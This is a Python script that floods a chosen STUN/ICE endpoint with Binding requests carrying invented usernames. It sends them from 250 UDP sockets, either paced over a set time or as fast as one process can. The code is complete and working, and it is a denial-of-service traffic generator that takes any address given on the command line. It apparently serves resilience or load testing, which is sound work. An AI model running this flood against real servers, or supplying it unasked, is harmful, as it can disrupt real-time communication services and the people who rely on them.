# SPDX-License-Identifier: MIT
"""A flood of Binding requests with invented USERNAMEs, as fast as one process sends: stun_flood.py ADDRESS PORT COUNT [SECONDS]

Each bears a ufrag pair that nobody has, and comes from one of 250 ports; spread over SECONDS, or as fast as can be. Prints
how many were sent.
"""
import os
import socket
import struct
import sys
import time
import zlib

_COOKIE = 0x2112A442
_PORTS = 250


def request(number):
    name = f"{number:08x}:evil".encode()
    username = struct.pack("!HH", 0x0006, len(name)) + name + bytes(-len(name) % 4)
    head = struct.pack("!HHI", 0x0001, len(username) + 8, _COOKIE) + os.urandom(12)
    return head + username + struct.pack("!HHI", 0x8028, 4, zlib.crc32(head + username) ^ 0x5354554E)


def flood(address, port, count, seconds):
    sockets = []
    for _ in range(_PORTS):
        each = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        each.connect((address, port))
        sockets.append(each)
    begin, salt, sent = time.monotonic(), int.from_bytes(os.urandom(3), "big"), 0
    for number in range(count):
        try:
            sockets[number % _PORTS].send(request(salt * 1_000_003 + number & 0xffffffff))
            sent += 1
        except OSError:  # an ICMP error of an earlier one, or a full queue
            pass
        if number % 100 == 0 and (ahead := begin + seconds * number / count - time.monotonic()) > 0:
            time.sleep(ahead)
    return sent


if __name__ == "__main__":
    print(flood(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]) if len(sys.argv) > 4 else 0))
